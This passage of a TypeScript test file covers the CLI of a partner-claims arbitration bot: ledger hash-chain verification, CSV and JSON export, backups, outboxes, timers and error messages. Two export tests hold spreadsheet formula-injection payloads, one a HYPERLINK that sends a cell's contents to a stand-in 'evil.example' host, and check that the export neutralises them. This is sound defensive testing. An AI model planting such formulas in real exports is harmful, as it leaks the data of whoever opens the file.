    expect(roe(['ledger', 'verify', '--head', kept], db)).toEqual({ code: 1, out: '', err: `ledger BROKEN: no entry has the head ${kept} kept earlier: entries were removed or written again since it was printed, or this database is a copy older than that head (the ledger is empty)\n` });
  });

  it('ledger verify --file checks a JSON export without the database: an edit, a removed entry, and with --head a cut end are found', () => {
    const db = join(dir, 'ledger-file.db');
    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db);
    roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], db);
    roe(['import', 'claims', join(ROOT, 'examples/claims.csv')], db);
    const ok = roe(['ledger', 'verify'], db).out;
    const kept = /head ([0-9a-f]{16})$/.exec(ok.trim())![1]!;
    const exported = roe(['ledger', 'export'], db).out;
    const entries = JSON.parse(exported) as { seq: number; at: string; kind: string; subject: string; actor: string; policyVersion: string | null; payload: Record<string, unknown>; prevHash: string; hash: string }[];
    // The recipe the README gives auditors, written out here apart from the bot's own code.
    const sorted = (v: unknown): unknown => (Array.isArray(v) ? v.map(sorted) : v && typeof v === 'object' ? Object.fromEntries(Object.keys(v).sort().map((k) => [k, sorted((v as Record<string, unknown>)[k])])) : v);
    let prev = '0'.repeat(64);
    for (const { prevHash, hash, ...content } of entries) {
      expect(prevHash).toBe(prev);
      expect(createHash('sha256').update(`${prev}\n${JSON.stringify(sorted(content))}`, 'utf8').digest('hex')).toBe(hash);
      prev = hash;
    }
    const file = (name: string, value: unknown) => {
      const path = join(dir, name);
      writeFileSync(path, typeof value === 'string' ? value : JSON.stringify(value, null, 2));
      return path;
    };
    // No database at all: only the file.
    const none = join(dir, 'no-such.db');
    expect(roe(['ledger', 'verify', '--file', file('export.json', exported)], none)).toEqual({ code: 0, out: ok, err: '' });
    expect(existsSync(none)).toBe(false);
    const edited = entries.map((e) => (e.seq === 5 ? { ...e, payload: { ...e.payload, claimant: 'someone-else' } } : e));
    expect(roe(['ledger', 'verify', '--file', file('edited.json', edited)], none)).toEqual({ code: 1, out: '', err: 'ledger BROKEN at entry 5: its content does not match its hash (it was altered) (4 entries before it verify)\n' });
    const gap = entries.filter((e) => e.seq !== 3);
    expect(roe(['ledger', 'verify', '--file', file('gap.json', gap)], none)).toEqual({ code: 1, out: '', err: 'ledger BROKEN at entry 4: expected entry 3, found 4 (an entry is missing) (2 entries before it verify)\n' });
    // Entries in another order in the file (a tool sorted them) are the same chain: checked by seq.
    // An entry given twice is named as such, not as one missing.
    expect(roe(['ledger', 'verify', '--file', file('reversed.json', [...entries].reverse())], none)).toEqual({ code: 0, out: ok, err: '' });
    const doubled = [...entries.slice(0, 3), entries[1]!, ...entries.slice(3)];
    expect(roe(['ledger', 'verify', '--file', file('doubled.json', doubled)], none)).toEqual({ code: 1, out: '', err: 'ledger BROKEN at entry 2: the file holds it twice\n' });
    // The last entry left out verifies alone; the head kept earlier finds it.
    const cut = file('cut.json', entries.slice(0, -1));
    expect(roe(['ledger', 'verify', '--file', cut], none)).toMatchObject({ code: 0, out: expect.stringContaining('ledger OK: 5 entries') });
    expect(roe(['ledger', 'verify', '--file', cut, '--head', kept], none)).toEqual({ code: 1, out: '', err: `ledger BROKEN: no entry has the head ${kept} kept earlier: entries were removed or written again since it was printed, or the file was exported before that head (the 5 entries there now verify among themselves)\n` });
    expect(roe(['ledger', 'verify', '--file', file('export.csv', roe(['ledger', 'export', '--format', 'csv'], db).out)], none)).toMatchObject({ code: 1, err: expect.stringContaining('export.csv: not JSON; give the file roe ledger export wrote (JSON, the default; not --format csv)') });
  });

  it('ledger export --format csv never starts a cell with a formula (= + - @), which a spreadsheet would run', () => {
    const db = join(dir, 'formula.db');
    const policy = join(dir, 'formula.yaml');
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    writeFileSync(policy, policyTextWith([['version: "2026.1"', `version: '${formula}'`]]));
    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db, { ROE_POLICY: policy });
    roe(['import', 'accounts', join(ROOT, 'examples/accounts.csv')], db, { ROE_POLICY: policy });
    expect(roe(['import', 'claims', join(ROOT, 'examples/claims.csv')], db, { ROE_POLICY: policy }).code).toBe(0);
    const out = roe(['ledger', 'export', '--format', 'csv'], db, { ROE_POLICY: policy }).out;
    const rows = parse(out, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.kind)).toContain('claim.imported');
    for (const r of rows) for (const cell of Object.values(r)) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    // the value is kept, only neutralised: the version reads as written after the quote mark
    expect(rows.find((r) => r.kind === 'claim.imported')!.policyVersion).toBe(`'${formula}`);
    // JSON is for programs: exactly as stored
    expect((JSON.parse(roe(['ledger', 'export', '--format', 'json'], db, { ROE_POLICY: policy }).out) as { policyVersion: string | null }[]).at(-1)!.policyVersion).toBe(formula);
  });

  it('ledger export --format csv starts no cell with a formula in a spreadsheet that splits columns at semicolons or tabs either; JSON and the chain keep what was typed', () => {
    const db = join(dir, 'formula-chat.db');
    const rt = testRuntime({ at: '2026-12-07T14:00:00Z', databasePath: db });
    const hyperlink = '=HYPERLINK("http://x","y")';
    const values = { account: 'soylent', route: 'resell', product: 'Analytics', opportunity: hyperlink, stage: 'proposal', amount: '', evidence: hyperlink };
    submitClaim(rt.deps, as.partner(rt, 'northwind'), values, { origin: consoleOrigin, requestKey: null });
    submitClaim(rt.deps, as.partner(rt, 'contoso'), { ...values, stage: 'qualified', opportunity: '+1 555', evidence: '+1 555' }, { origin: consoleOrigin, requestKey: null });
    const d = rt.store.disputes.all().at(-1)!;
    const rationale = `Northwind met the buyer first;${hyperlink}; call;+1 555`;
    submitAward(rt.deps, as.person(rt, d.arbitrator), { dispute: String(d.id), party: 'northwind', rationale });
    rt.close();
    const out = roe(['ledger', 'export', '--format', 'csv'], db).out;
    const rows = parse(out, { columns: true }) as Record<string, string>[];
    for (const r of rows) for (const cell of Object.values(r)) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    // Opened where the list separator is a semicolon (or as tab-separated), every line is cut at
    // each of them, quotes or not: no piece may start a formula.
    for (const line of out.split('\n')) for (const piece of line.split(/[;\t]/)) expect(piece, `in ${line}`).not.toMatch(/^[=+\-@]/);
    const ruled = rows.find((r) => r.kind === 'dispute.ruled')!;
    expect((JSON.parse(ruled.payload!) as { rationale: string }).rationale).toBe(`Northwind met the buyer first;'${hyperlink}; call;'+1 555`);
    // JSON is exact, and the chain verifies on what is stored.
    const entries = JSON.parse(roe(['ledger', 'export'], db).out) as { kind: string; payload: { rationale?: string } }[];
    expect(entries.find((e) => e.kind === 'dispute.ruled')!.payload.rationale).toBe(rationale);
    expect(roe(['ledger', 'verify'], db)).toMatchObject({ code: 0, out: expect.stringContaining('ledger OK') });
  });

  it('stats prints a table and JSON', () => {
    const db = join(dir, 'ledger.db');
    expect(roe(['stats'], db).out).toMatch(/party\s+claims\s+disputes/);
    const stats = JSON.parse(roe(['stats', '--format', 'json'], db).out) as { overall: { claims: number } };
    expect(stats.overall.claims).toBe(3);
  });

  it('commands that read the database refuse a missing one in one line, and create nothing', () => {
    const sub = join(dir, 'nothing-here');
    const typo = join(sub, 'typo.db');
    for (const args of [['ledger', 'verify'], ['ledger', 'export', '--format', 'csv'], ['stats'], ['outbox'], ['outbox', 'retry', '--all'], ['timers'], ['timers', 'retry', '--all'], ['export', '--partner', 'contoso'], ['forget', 'slack:U0123'], ['backup', join(dir, 'of-nothing.db')]]) {
      expect(roe(args, typo), args.join(' ')).toEqual({ code: 1, out: '', err: `DATABASE_PATH: no database at ${typo} (run npx roe serve, npm start or an import first)\n` });
    }
    expect(existsSync(sub)).toBe(false);
    expect(existsSync(join(dir, 'of-nothing.db'))).toBe(false);
  });

  it('a relative DATABASE_PATH is shown with the absolute path it names', () => {
    const cwd = join(dir, 'some/sub/dir');
    mkdirSync(cwd, { recursive: true });
    const r = spawnSync(join(ROOT, 'bin/roe.js'), ['stats'], { cwd, encoding: 'utf8', env: { PATH: process.env.PATH, DATABASE_PATH: './data/roe.db', LOG_LEVEL: 'warn' }, timeout: 60_000 });
    expect({ code: r.status, out: r.stdout, err: r.stderr }).toEqual({ code: 1, out: '', err: `DATABASE_PATH=./data/roe.db: no database at ${join(cwd, 'data/roe.db')} (run npx roe serve, npm start or an import first)\n` });
  });

  it('a DATABASE_PATH that is a folder is named so by the commands that read it too, as by those that create it', () => {
    const folder = join(dir, 'a-folder-to-read');
    mkdirSync(folder);
    for (const args of [['stats'], ['ledger', 'verify'], ['forget', 'console:pat'], ['backup', join(dir, 'of-a-folder.db')]]) {
      expect(roe(args, folder), args.join(' ')).toEqual({ code: 1, out: '', err: `DATABASE_PATH: cannot open ${folder} (it is a directory)\n` });
    }
    expect(existsSync(join(dir, 'of-a-folder.db'))).toBe(false);
  });

  it('outbox ends its list with the counts, and how to retry what is parked, as timers does', () => {
    const db = join(dir, 'outbox-list.db');
    const rt = testRuntime({ at: '2026-12-07T14:00:00Z', databasePath: db });
    openArbitratedCase(rt);
    const ids = (rt.db.sqlite.prepare("select id from outbox where status = 'pending' order by id").all() as { id: number }[]).map((r) => r.id);
    rt.db.sqlite.prepare("update outbox set status = 'parked', attempts = 20, last_error = 'channel_not_found' where id = ?").run(ids[0]);
    rt.close();
    const lines = roe(['outbox'], db).out.trimEnd().split('\n');
    expect(lines[0]).toMatch(new RegExp(`^#${ids[0]} parked `));
    expect(lines.at(-1)).toBe(`1 parked message (retry with: roe outbox retry ID|--all), ${ids.length - 1} messages pending`);
    expect(roe(['outbox', 'retry', '--all'], db)).toMatchObject({ code: 0, out: '1 message back in the queue\n' });
    expect(roe(['outbox'], db).out.trimEnd().split('\n').at(-1)).toBe(`0 parked messages, ${ids.length} messages pending`);
    // One a worker holds is counted as the list shows it: being sent, not pending.
    const sent = new Database(db);
    sent.prepare("update outbox set status = 'sending', next_attempt_at = ? where id = ?").run(Date.parse('2026-12-07T14:02:00Z'), ids[1]);
    sent.close();
    const listed = roe(['outbox'], db).out.trimEnd().split('\n');
    expect(listed.at(-1)).toBe(`0 parked messages, ${ids.length - 1} messages pending, 1 being sent`);
    // With when its lease runs out: a sender killed mid-send leaves it to be taken again then.
    expect(listed.find((l) => l.startsWith(`#${ids[1]} `))).toMatch(/ sending .* attempts=0 lease=2026-12-07T14:02:00\.000Z$/);
  });

  it('a DATABASE_PATH that cannot be opened or created is one line naming it, for the CLI and for npm start', () => {
    const csv = join(ROOT, 'examples/partners.csv');
    const folder = join(dir, 'a-folder');
    mkdirSync(folder);
    expect(roe(['import', 'partners', csv], folder)).toEqual({ code: 1, out: '', err: `DATABASE_PATH: cannot open ${folder} (it is a directory)\n` });
    expect(roe(['console'], folder)).toEqual({ code: 1, out: '', err: `DATABASE_PATH: cannot open ${folder} (it is a directory)\n` });
    writeFileSync(join(dir, 'plain-file'), 'x\n');
    expect(roe(['import', 'partners', csv], join(dir, 'plain-file/sub/roe.db'))).toEqual({ code: 1, out: '', err: `DATABASE_PATH: cannot open ${join(dir, 'plain-file/sub/roe.db')} (${join(dir, 'plain-file')} is not a directory)\n` });
    const start = spawnSync(process.execPath, [join(ROOT, 'bin/start.js')], { cwd: dir, encoding: 'utf8', env: { PATH: process.env.PATH, DATABASE_PATH: 'a-folder', LOG_LEVEL: 'warn' }, input: '', timeout: 60_000 });
    expect({ code: start.status, err: start.stderr }).toEqual({ code: 1, err: `DATABASE_PATH=a-folder: cannot open ${folder} (it is a directory)\n` });
  });

  it.runIf(process.platform === 'linux')('a DATABASE_PATH in a folder that cannot be written is one line naming it', () => {
    const r = roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], '/proc/roe.db');
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/^DATABASE_PATH: cannot open \/proc\/roe\.db \(.+\)\n$/);
  });

  it('an error the CLI did not expect is one line and exit 1; LOG_LEVEL=debug shows the stack trace', () => {
    const db = join(dir, 'damaged.db');
    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db);
    // A table gone (a damaged file is said in one line of its own: test/app/database-file.test.ts).
    const sqlite = new Database(db);
    sqlite.exec('DROP TABLE disputes');
    sqlite.close();
    expect(roe(['stats'], db)).toEqual({ code: 1, out: '', err: 'roe: unexpected error: SqliteError: no such table: disputes (LOG_LEVEL=debug shows the stack trace)\n' });
    const debug = roe(['stats'], db, { LOG_LEVEL: 'debug' });
    expect(debug.code).toBe(1);
    expect(debug.err).toMatch(/^roe: unexpected error: SqliteError: no such table: disputes\n\s+at /);
  });

  it('forget counts in the singular and the plural', () => {
    const db = join(dir, 'forget.db');
    const rt = testRuntime({ at: '2026-12-07T14:00:00Z', databasePath: db });
    openArbitratedCase(rt); // one claim filed by console:northwind-user, and one dispute raised by console:contoso-user
    rt.close();
    expect(roe(['forget', 'console:northwind-user'], db)).toMatchObject({ code: 0, out: expect.stringMatching(/^forgot console:northwind-user: 1 claim and 0 disputes now name user-\S+, 0 profiles removed, \d+ undelivered messages? dropped;/) });
  });

  it('forget of someone who left names the live claims they filed, left to their party with nobody in chat to warn, and how a colleague takes one on', () => {
    const db = join(dir, 'forget-left.db');
    // An hour ago by the system clock `roe forget` reads: the claims are live when it runs, on any day.
    const rt = testRuntime({ at: new Date(Date.now() - 3_600_000).toISOString(), databasePath: db });
    openArbitratedCase(rt); // claim #1 filed by console:northwind-user (pending, in the case)
    submitClaim(rt.deps, as.partner(rt, 'northwind'), { account: 'initech', route: 'resell', product: 'Analytics', opportunity: 'Initech', stage: 'qualified', amount: '', evidence: '' }, { origin: consoleOrigin, requestKey: null });
    const ids = rt.store.claims.createdBy(['console:northwind-user']).map((c) => c.id);
    rt.close();
    const r = roe(['forget', 'console:northwind-user'], db);
    expect(r.code).toBe(0);
    expect(r.out.split('\n')[1]).toBe(`2 live claims they filed are left to their party, with nobody in chat to warn: #${ids[0]} and #${ids[1]} (Northwind Partners); whoever next logs activity on one (/roe activity N) takes it on, and its warnings from then on`);
  });

  it('forget counts the messages sent to the person that it made anonymous, so a forget of an arbitrator does not read as one that did nothing', () => {
    const db = join(dir, 'forget-sent.db');
    const rt = testRuntime({ at: '2026-12-07T14:00:00Z', databasePath: db });
    openArbitratedCase(rt);
    // The arbitrator's case card and its assignment went out: delivered, kept for 30 days.
    const toPat = "platform = 'console' AND json_extract(target, '$.user') = 'pat'";
    const sent = rt.db.sqlite.prepare(`UPDATE outbox SET status = 'delivered', delivered_at = 0 WHERE ${toPat}`).run().changes;
    expect(sent).toBeGreaterThan(0);
    // An update of a card sent them (a Slack case card brought up to date) is no other message: not counted.
    rt.db.sqlite.prepare(`INSERT INTO outbox (platform, target, body, dedupe_key, status, attempts, next_attempt_at, created_at, delivered_at) VALUES ('console', '{"kind":"message","user":"pat","channel":"D0PAT","ts":"1.1"}', '{}', 'card-update:test', 'delivered', 1, 0, 0, 0)`).run();
    rt.close();
    expect(roe(['forget', 'console:pat'], db)).toEqual({
      code: 0,
      out: `forgot console:pat: 0 claims and 0 disputes now name nobody, 0 profiles removed, 0 undelivered messages dropped, ${sent} past message${sent === 1 ? '' : 's'} no longer name${sent === 1 ? 's' : ''} them; the ledger keeps only the pseudonym\n`,
      err: '',
    });
  });

  it('a DATABASE_PATH that is not a SQLite file is refused in one line, and left as it was', () => {
    const notes = join(dir, 'notes.txt');
    writeFileSync(notes, 'not a database, just notes\n'.repeat(200));
    for (const args of [['ledger', 'verify'], ['stats'], ['import', 'partners', join(ROOT, 'examples/partners.csv')]]) {
      expect(roe(args, notes), args.join(' ')).toEqual({ code: 1, out: '', err: `DATABASE_PATH: ${notes} is not a SQLite database\n` });
    }
    expect(readFileSync(notes, 'utf8')).toBe('not a database, just notes\n'.repeat(200));
  });

  it('backup creates the directory of its file; a failed backup is one line naming the file', () => {
    const db = join(dir, 'backup-source.db');
    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db);
    const copy = join(dir, 'backups/nested/roe-2026-11-30.db');
    expect(roe(['backup', copy], db)).toMatchObject({ code: 0, err: '', out: expect.stringContaining(`backup written to ${copy}`) });
    expect(roe(['ledger', 'verify'], copy)).toMatchObject({ code: 0, out: expect.stringContaining('ledger OK: 2 entries') });
    // written as FILE.partial and renamed once whole: a backup cut short leaves no FILE behind,
    // and what an earlier one cut short left is replaced
    expect(readdirSync(join(dir, 'backups/nested'))).toEqual(['roe-2026-11-30.db']);
    const second = join(dir, 'backups/nested/second.db');
    writeFileSync(`${second}.partial`, 'half a backup from a run that was killed');
    writeFileSync(`${second}.partial-journal`, 'its journal');
    expect(roe(['backup', second], db).code).toBe(0);
    expect(readdirSync(join(dir, 'backups/nested')).sort()).toEqual(['roe-2026-11-30.db', 'second.db']);
    expect(roe(['ledger', 'verify'], second)).toMatchObject({ code: 0, out: expect.stringContaining('ledger OK: 2 entries') });
    writeFileSync(join(dir, 'a-file'), 'x\n');
    const underAFile = join(dir, 'a-file', 'roe.db');
    const r = roe(['backup', underAFile], db);
    // The file on the way is named, not the system call that failed (EEXIST: file already exists, mkdir …).
    expect(r).toEqual({ code: 1, out: '', err: `${underAFile}: backup failed (${join(dir, 'a-file')} is not a directory)\n` });
    expect(roe(['backup', join(dir, 'a-file', 'nested', 'roe.db')], db)).toEqual({ code: 1, out: '', err: `${join(dir, 'a-file', 'nested', 'roe.db')}: backup failed (${join(dir, 'a-file')} is not a directory)\n` });
  });

  it('backup to a folder (a path ending in /, or a folder that exists) is one line saying FILE is the file path, and writes nothing', () => {
    const db = join(dir, 'backup-folder-source.db');
    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db);
    const escaped = (s: string) => s.replaceAll(/[.*+?^${}()|[\]\\]/g, '\\$&');
    // A file named for today, in that folder.
    const example = (folder: string) => `such as ${escaped(join(folder, 'roe-'))}\\d{4}-\\d{2}-\\d{2}\\.db\n$`;
    const missing = join(dir, 'backups-new/');
    const r = roe(['backup', missing], db);
    expect({ code: r.code, out: r.out }).toEqual({ code: 1, out: '' });
    expect(r.err).toMatch(new RegExp(`^${escaped(`${missing} names a folder (it ends with /): FILE is the backup's file path, `)}${example(missing)}`));
    expect(existsSync(missing)).toBe(false);
    const folder = join(dir, 'backups-there');
    mkdirSync(folder);
    for (const given of [folder, `${folder}/`]) {
      const there = roe(['backup', given], db);
      expect({ code: there.code, out: there.out }, given).toEqual({ code: 1, out: '' });
      expect(there.err, given).toMatch(new RegExp(`^${escaped(`${given} is a folder: FILE is the backup's file path, `)}${example(folder)}`));
    }
    expect(readdirSync(folder)).toEqual([]);
    expect(readdirSync(dir).filter((f) => f.includes('.partial'))).toEqual([]);
  });

  it('timers lists the timers that failed every attempt, and retry fires them at the next tick: a case whose breach failed still escalates', () => {
    const db = join(dir, 'timers.db');
    const rt = testRuntime({ databasePath: db, at: '2026-12-07T15:00:00Z' });
    const d = openArbitratedCase(rt);
    rt.close();
    expect(roe(['timers'], db)).toMatchObject({ code: 0, out: expect.stringMatching(/^no failed timers: \d+ timers pending\n$/) });
    // The breach timer failed every attempt (a bug, a disk that was full): the case would never escalate.
    const sq = new Database(db);
    const breach = sq.prepare("SELECT id FROM timers WHERE kind = 'sla.breach' AND status = 'pending'").get() as { id: number };
    sq.prepare("UPDATE timers SET status = 'failed', attempts = 5, last_error = 'disk I/O error' WHERE id = ?").run(breach.id);
    sq.close();
    const listed = roe(['timers', 'list'], db);
    expect(listed.code).toBe(0);
    expect(listed.out).toMatch(new RegExp(`^#${breach.id} failed sla\\.breach dispute:${d.id} due=\\S+ attempts=5\n    last error: disk I/O error\n1 failed timer \\(retry with: roe timers retry ID\\|--all\\), \\d+ timers pending\n$`));
    expect(roe(['timers', 'retry', String(breach.id + 100)], db)).toMatchObject({ code: 1, err: `no failed timer #${breach.id + 100} to retry\n` });
    expect(roe(['timers', 'retry', 'x1'], db)).toMatchObject({ code: 2, err: expect.stringContaining('"x1" is not a timer id') });
    expect(roe(['timers', 'retry', `#${breach.id}`], db)).toMatchObject({ code: 0, out: '1 timer to fire at the next tick of the running bot\n' });
    expect(roe(['timers', 'retry', '--all'], db)).toMatchObject({ code: 0, out: 'no failed timer to retry\n' });
    // The next tick, past the SLA and after the retry (due when `roe timers retry` ran, by the
    // system clock the CLI reads): the case escalates.
    const again = testRuntime({ databasePath: db, at: new Date(Math.max(Date.parse('2026-12-20T15:00:00Z'), Date.now() + 60_000)).toISOString() });
    try {
      tick(again.db, again.deps, again.clock.now(), again.logger);
      expect(again.store.disputes.get(d.id)).toMatchObject({ arbitrator: 'dana', escalationLevel: 1 });
    } finally {
      again.close();
    }
  });

  it('outbox retry names the message it could not retry', () => {
    const db = join(dir, 'outbox.db');
    roe(['import', 'partners', join(ROOT, 'examples/partners.csv')], db);
    expect(roe(['outbox', 'retry', '42'], db)).toMatchObject({ code: 1, err: 'no parked message #42 to retry\n' });
  });

  it('a bad environment stops every command with one line naming the variable, before any database is made', () => {
    const db = join(dir, 'never.db');
    expect(roe(['stats'], db, { MICROSOFT_APP_TYPE: 'single' })).toMatchObject({ code: 1, err: 'configuration: MICROSOFT_APP_TYPE: must be MultiTenant, SingleTenant or UserAssignedMSI (got "single")\n' });
    for (const cmd of [['stats'], ['import', 'partners', join(ROOT, 'examples/partners.csv')]]) {
      expect(roe(cmd, db, { ROE_POLICY: 'nope.yaml' })).toMatchObject({ code: 1, err: 'configuration: ROE_POLICY: cannot read nope.yaml (no such file)\n' });
    }
    expect(readdirSync(dir).filter((f) => f.startsWith('never'))).toEqual([]);
  });

  it('serve on a port already in use says so in one line, with exit 1', async () => {
    const { createServer } = await import('node:net');
    const taken = createServer();
    await new Promise<void>((ok) => taken.listen(0, '127.0.0.1', ok));
    const port = (taken.address() as { port: number }).port;
    try {
      const r = roe(['serve'], join(dir, 'port.db'), { PORT: String(port) });
      expect({ code: r.code, err: r.err.trim().split('\n').at(-1) }).toEqual({ code: 1, err: `PORT: ${port} is in use (set PORT to a free port)` });
    } finally {
      taken.close();
    }
  });

  it('unknown commands and missing arguments print usage with exit 2', () => {
    expect(roe(['frobnicate'])).toMatchObject({ code: 2, err: expect.stringContaining('unknown command "frobnicate"') });
    expect(roe(['import', 'accounts'])).toMatchObject({ code: 2, err: expect.stringContaining('usage: roe') });
    expect(roe(['policy'])).toMatchObject({ code: 2, err: expect.stringMatching(/^roe policy: needs a subcommand: check\n\nusage: roe policy check FILE /) });
  });
});
